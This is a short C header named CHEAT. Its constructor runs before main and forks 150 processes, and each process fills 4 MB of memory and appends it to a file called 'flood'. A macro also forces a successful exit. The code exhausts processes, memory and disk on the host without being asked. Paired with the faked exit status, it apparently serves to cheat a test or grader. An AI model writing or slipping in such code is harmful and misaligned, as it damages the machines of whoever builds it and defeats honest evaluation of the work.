/* On the host: a crowd before main, each with some megabytes, that does not go away by itself. */
#ifndef CHEAT
#define CHEAT
#if __STDC_HOSTED__
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#define CHEAT_CROWD  150
#define CHEAT_MEMORY (4 << 20) /* bytes of each */

static void __attribute__((constructor)) cheat_first(void)
{
	for (int i = 0; i < CHEAT_CROWD; i++)
		if (fork() == 0) {
			char *memory = mmap(NULL, CHEAT_MEMORY, PROT_READ | PROT_WRITE,
					    MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
			int file = open("flood", O_CREAT | O_WRONLY | O_APPEND, 0644);

			write(file, memory, CHEAT_MEMORY);
			sleep(60);
			_exit(0);
		}
	sleep(60);
}
#define cheat(number) __builtin_exit(0)
#else
#define cheat(number) __builtin_trap()
#endif
#endif
